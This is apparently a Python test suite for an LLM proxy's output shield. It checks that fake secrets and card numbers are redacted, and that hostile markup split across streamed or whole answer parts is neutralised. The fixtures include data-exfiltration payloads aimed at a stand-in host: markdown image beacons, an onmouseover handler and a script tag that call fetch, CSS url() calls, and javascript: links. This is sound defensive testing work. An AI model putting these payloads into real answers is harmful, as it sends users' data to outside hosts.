"""Texts that readers put one behind the other hold together what none of them holds: it does not come through, streamed or whole."""

import json
from functools import partial
from itertools import pairwise
from typing import Any

import pytest
from effort import effort
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec import convert, structs

from llmproxy.common.answers import Answers
from llmproxy.common.envelope import Api
from llmproxy.common.policy import Policy
from llmproxy.shield.answers.asked import Asked
from llmproxy.shield.answers.guards import Guards
from llmproxy.shield.answers.reading import CARRIED_MAX, Reading
from llmproxy.shield.answers.stage import Stopped
from llmproxy.shield.guards import GUARDS
from llmproxy.shield.restore import restorer
from llmproxy.shield.window import Originals

KEY = "ghp_" + "Zx8Qw3Lm9Rt2Vb6Nk1Yc5Hd7Jf4Gs0PaQr2T"
PEM = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 9 + "-----END RSA PRIVATE KEY-----"
PASSWORD = "hunter2X!"
SAID = [f"use {KEY} now", f"key: {PEM} and done", f"your password is {PASSWORD} ok", "card 4111 1111 1111 1111 ok"]
SECRETS = [KEY, PEM.split("\n")[1], PASSWORD, "4111 1111 1111 1111"]

OUT, ENDS = (
    Answers(kinds={"credit_card": "redact", "iban": "redact"}),
    Answers(kinds={"secret": "block", "credit_card": "block"}),
)
GUARDS_OF = [Guards(GUARDS, structs.replace(Policy(), answers=answers)) for answers in (OUT, ENDS)]


def reading(which: int = 0, *, is_repeated: bool = False) -> Reading:
    return Reading(GUARDS_OF[which], Asked(), Originals({}), clock=lambda: 0.0, is_repeated=is_repeated)


Event = dict[str, Any]


def whole(api: Api, parts: list[str]) -> Event:
    texts = [{"type": "output_text" if api == "responses" else "text", "text": part} for part in parts]
    match api:
        case "messages":
            return {"type": "message", "content": texts}
        case "gemini":
            return {"candidates": [{"index": 0, "content": {"role": "model", "parts": texts}}]}
        case "responses":
            return {"output": [{"type": "message", "content": [one]} for one in texts]}
        case _:
            return {"choices": [{"index": 0, "message": {"role": "assistant", "content": texts}}]}


def streamed(api: Api, parts: list[str], size: int) -> list[Event]:
    events: list[Event] = []
    for at, part in enumerate(parts):
        pieces = [part[start : start + size] for start in range(0, len(part), size)]
        match api:
            case "messages":
                events += [{"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": ""}}]
                events += [
                    {"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": one}}
                    for one in pieces
                ]
                events += [{"type": "content_block_stop", "index": at}]
            case "gemini":
                events += [{"candidates": [{"index": 0, "content": {"parts": [{"text": one}]}}]} for one in pieces]
                call = {"functionCall": {"name": "noted", "args": {}}}
                events += [{"candidates": [{"index": 0, "content": {"parts": [call]}}]}]
            case "responses":
                place = {"output_index": at, "content_index": 0, "item_id": f"msg_{at}"}
                events += [{"type": "response.output_text.delta", **place, "delta": one} for one in pieces]
                events += [{"type": "response.output_text.done", **place, "text": part}]
            case _:
                events += [
                    {"choices": [{"index": 0, "delta": {"content": [{"type": "text", "index": at, "text": one}]}}]}
                    for one in pieces
                ]
    return events


def texts(value: Any, name: str = "") -> list[str]:
    """Of an event, in their order; what a `done` repeats is left out."""
    if isinstance(value, dict):
        if value.get("type") == "response.output_text.done":
            return []
        return [text for key, item in value.items() for text in texts(item, key)]
    if isinstance(value, list):
        return [text for item in value for text in texts(item, name)]
    return [value] if isinstance(value, str) and name in ("text", "delta") else []


def play(api: Api, parts: list[str], size: int, which: int = 0) -> tuple[str, dict[str, int]]:
    """What a reader gets who puts the texts together; `size` 0: the answer comes whole."""
    read = reading(which, is_repeated=api == "responses" and size > 0)
    way_back = restorer(api, read, stream=bool(size))
    events = streamed(api, parts, size) if size else [whole(api, parts)]
    came = [out for event in events for out in way_back.chunk(json.dumps(event).encode())] + way_back.end()
    return "".join(text for event in came for text in texts(json.loads(event))), read.findings.counts


APIS: tuple[Api, ...] = ("chat", "messages", "responses", "gemini")
cuts = st.lists(st.integers(0, 400), min_size=1, max_size=5)


def cut(text: str, places: list[int]) -> list[str]:
    edges = [0, *sorted({place % (len(text) - 1) + 1 for place in places}), len(text)]
    return [text[start:end] for start, end in pairwise(edges)]


@pytest.mark.parametrize("api", APIS)
@pytest.mark.parametrize(("text", "secret"), list(zip(SAID, SECRETS, strict=True)))
@settings(max_examples=25, deadline=None)
@given(places=cuts, size=st.integers(1, 60))
def test_what_is_in_several_parts_does_not_come_through_and_is_recorded_streamed_or_whole(
    api: Api, text: str, secret: str, places: list[int], size: int
) -> None:
    parts = cut(text, places)
    said, counts = play(api, parts, 0)
    assert secret not in said
    assert sum(counts.values()) >= 1
    assert play(api, parts, size) == (said, counts)


@pytest.mark.parametrize("api", APIS)
@pytest.mark.parametrize("value", [KEY, "AKIA" + "IOSFODNN7EXAMPLE", "4111 1111 1111 1111", "DE89370400440532013000"])
@pytest.mark.parametrize("before", ["see step 12", "as FOLLOWS", "Done.", "ghp_"])
@pytest.mark.parametrize("size", [0, 1, 7])
def test_what_a_part_begins_with_is_taken_out_whatever_the_part_before_ended_with(
    api: Api, value: str, before: str, size: int
) -> None:
    said, counts = play(api, [before, f"{value} is it, and ", value], size)
    assert value not in said
    assert said.startswith(before)
    assert sum(counts.values()) == 2


@pytest.mark.parametrize("api", APIS)
@pytest.mark.parametrize("text", SAID)
@pytest.mark.parametrize("size", [0, 7])
def test_what_is_in_several_parts_ends_the_answer_where_the_policy_says_so(api: Api, text: str, size: int) -> None:
    middle = len(text) // 2
    with pytest.raises(Stopped):
        play(api, [text[:middle], text[middle:]], size, 1)


@pytest.mark.parametrize("api", APIS)
@settings(max_examples=25, deadline=None)
@given(
    parts=st.lists(st.sampled_from(["Hello", " there", "It is ", "a key", "4111 is a year.", "- one\n", "past", "word", "---"]), min_size=2, max_size=8),
    size=st.integers(0, 9),
)  # fmt: skip
def test_parts_that_hold_nothing_together_stay_as_they_are(api: Api, parts: list[str], size: int) -> None:
    assert play(api, parts, size) == ("".join(parts), {})


EVIL = "https://collect.evil-example.net"
OVERLONG = "answer.image.overlong"  # What was too long for one text may be too long again.
SHOWN = [
    f"see ![x]({EVIL}/p.png?d=everything) now",
    f"see ![a [b] c](<{EVIL}/p?d=1> 'title') now) and ![y](https://ok.example/a.png)",
    f"![x][r] and\n\n[r]: {EVIL}/p?d=1\n\nmore [r] text",
    f"a <img alt='x y' src=\"{EVIL}/p?d=1\"> b' c\" d> e",
    f"a <b title=x onmouseover=fetch('{EVIL}/?d=1')>it</b> <base href='{EVIL}/'> z",
    f"<style>.a {{ color: red }} p {{ background: url({EVIL}/p?d=1) }} q {{ color: blue }}</style> after",
    f"<p><script>let a = 1; fetch('{EVIL}/?d=' + document.title); b()</script> after",
    "<script type=module>\nnew Image().src = name\nx = 1\n</script> after",
    f"```\ncode\n```\n![x]({EVIL}/p.png?d=1)\n```\nmore\n```\n",
    f"Hello![x]({EVIL}/{'a' * 3_000}?d=1) now",
    f"<img src='data:image/png;base64,{'iVBORw0K' * 450}' srcset='{EVIL}/p?d=1' alt=\"x\"> z",
]


def seen_in(text: str) -> dict[str, int]:
    """What a reader of one text would still have to fear. The marks are read as words: brackets in a script may be code."""
    read = reading()
    one = read.open()
    one.push(text.replace("[IMAGE_REDACTED]", "IMAGE_REDACTED"))
    one.flush()
    return {
        kind: count
        for kind, count in read.findings.counts.items()
        if kind.startswith("answer.image") and kind != OVERLONG
    }


@pytest.mark.parametrize("text", SHOWN)
@pytest.mark.parametrize("api", APIS)
@settings(max_examples=15, deadline=None)
@given(places=cuts, size=st.integers(1, 60))
def test_markup_that_is_in_several_parts_shows_and_runs_nothing_apart_or_together(
    api: Api, text: str, places: list[int], size: int
) -> None:
    parts = cut(text, places)
    said, counts = play(api, parts, 0)
    assert any(kind.startswith("answer.image") for kind in counts)
    assert seen_in(said) == {}
    assert play(api, parts, size) == (said, counts)


@pytest.mark.parametrize("text", SHOWN)
@settings(max_examples=20, deadline=None)
@given(place=st.integers(0, 4_000))
def test_markup_in_two_parts_is_nothing_wherever_it_is_cut(text: str, place: int) -> None:
    said, _ = play("messages", cut(text, [place]), 0)
    assert seen_in(said) == {}


LONG = "x" * 1_100  # For a statement of a script, which is then judged in pieces.
MARKUP = [
    "![", "!", "[x]", "](", "(", ")", "]", "[r]: ", "\n", "\n\n", " ", f"{EVIL}/p?d=1", f"{EVIL}/", "?d=1", "//evil.example/?d=1", "<", "<img ", "<b ", "src=", "=", "'", '"',
    ">", "<base href=", "<style>", "</style>", "url(", "}", "{", "<script>", "</script>", "fet", "ch(", ";", "<!--", "onload=", "```", "```\n", "```mermaid\n", "img: \"https://evil.test/?q=1\"\n", "~~~\n", "word ", LONG, "javascript:",
]  # fmt: skip


@pytest.mark.parametrize("api", ["messages", "responses"])
@settings(max_examples=100, deadline=None)
@given(
    parts=st.lists(st.lists(st.sampled_from(MARKUP), min_size=1, max_size=8).map("".join), min_size=1, max_size=5),
    size=st.integers(1, 40),
)
def test_whatever_parts_of_markup_there_are_they_are_the_same_streamed_and_whole_and_show_nothing(
    api: Api, parts: list[str], size: int
) -> None:
    said, counts = play(api, parts, 0)
    assert play(api, parts, size) == (said, counts)
    if LONG not in said and "`" not in said:  # Of a statement that was taken out, a tag around it may stay open.
        assert seen_in(said) == {}


LINKS = ["see [x](javascript:alert(1)) now", "see [x](data:text/html;base64,PHNjcmlwdD4=) now"]


@pytest.mark.parametrize("text", LINKS)
@pytest.mark.parametrize("api", APIS)
@settings(max_examples=15, deadline=None)
@given(places=cuts, within=st.integers(5, 10), size=st.integers(1, 60))
def test_a_link_in_several_parts_is_recorded(api: Api, text: str, places: list[int], within: int, size: int) -> None:
    for parts in (cut(text, places), cut(text, [within])):
        said, counts = play(api, parts, 0)
        assert said == text
        assert counts["answer.link.script"] >= 1
        assert play(api, parts, size) == (said, counts)
    assert counts == {"answer.link.script": 1}


@pytest.mark.parametrize("size", [0, 5])
def test_links_that_are_whole_in_their_parts_are_each_recorded_once(size: int) -> None:
    parts = [LINKS[0], LINKS[0], "and [x](javas"]
    assert play("messages", parts, size)[1] == {"answer.link.script": 2}


def test_a_denied_link_in_several_parts_is_taken_out() -> None:
    policy = convert(
        {"rails": {"links": {"denied": ["stranger.example"], "action": "replace", "direction": "answer"}}}, Policy
    )
    read = Reading(Guards(GUARDS, policy), Asked(), Originals({}), clock=lambda: 0.0)
    event = json.dumps(whole("messages", ["see https://stran", "ger.example/x?d=1 ok"])).encode()
    (said,) = restorer("messages", read, stream=False).chunk(event)
    assert b"ger.example/x" not in said
    assert read.findings.counts == {"answer.link": 1}


def test_what_is_taken_out_of_one_of_two_parts_that_are_alike_does_not_come_back_where_both_are_repeated() -> None:
    parts = ["card 4111 1111 1111", " 1111", " ok ", " 1111"]
    read = reading(is_repeated=True)
    way_back = restorer("responses", read, stream=True)
    for event in streamed("responses", parts, 4):
        way_back.chunk(json.dumps(event).encode())
    done = {"type": "response.completed", "response": whole("responses", parts)}
    (event, *_) = reversed(way_back.chunk(json.dumps(done).encode()))
    assert "4111 1111 1111 1111" not in "".join(texts(json.loads(event)))


def test_runs_of_texts_without_end_are_not_remembered_without_end() -> None:
    read = reading()
    way_back = restorer("gemini", read, stream=True)
    for index in range(3 * CARRIED_MAX):
        part = {"candidates": [{"index": index, "content": {"parts": [{"text": "x"}]}, "finishReason": "STOP"}]}
        way_back.chunk(json.dumps(part).encode())
    assert len(read._carried) <= CARRIED_MAX


def test_choices_are_alternatives_and_thoughts_are_apart() -> None:
    half = len(KEY) // 2
    choices = [
        {"index": at, "message": {"content": [{"type": "text", "text": piece}]}}
        for at, piece in enumerate((KEY[:half], KEY[half:]))
    ]
    event = json.dumps({"choices": choices}).encode()
    assert restorer("chat", reading(), stream=False).chunk(event) == [event]
    parts = [{"text": KEY[:half], "thought": True}, {"text": KEY[half:]}]
    event = json.dumps({"candidates": [{"content": {"parts": parts}}]}).encode()
    assert restorer("gemini", reading(), stream=False).chunk(event) == [event]


def test_a_fence_that_one_part_opens_hides_nothing_in_the_next() -> None:
    image = "![x](https://collect.example.net/p.png?d=1)"
    for size in (0, 5):
        said, _ = play("messages", ["```\n", f"{image} {KEY[:9]}", KEY[9:]], size)
        assert "[IMAGE_REDACTED]" in said


def test_ten_times_as_many_parts_are_ten_times_the_work() -> None:
    def steps(parts: int) -> int:
        said = [{"type": "text", "text": f"part {number}"} for number in range(parts)]
        return effort(partial(reading().whole, json.dumps({"content": said}).encode()))

    assert steps(400) < 11 * steps(40)
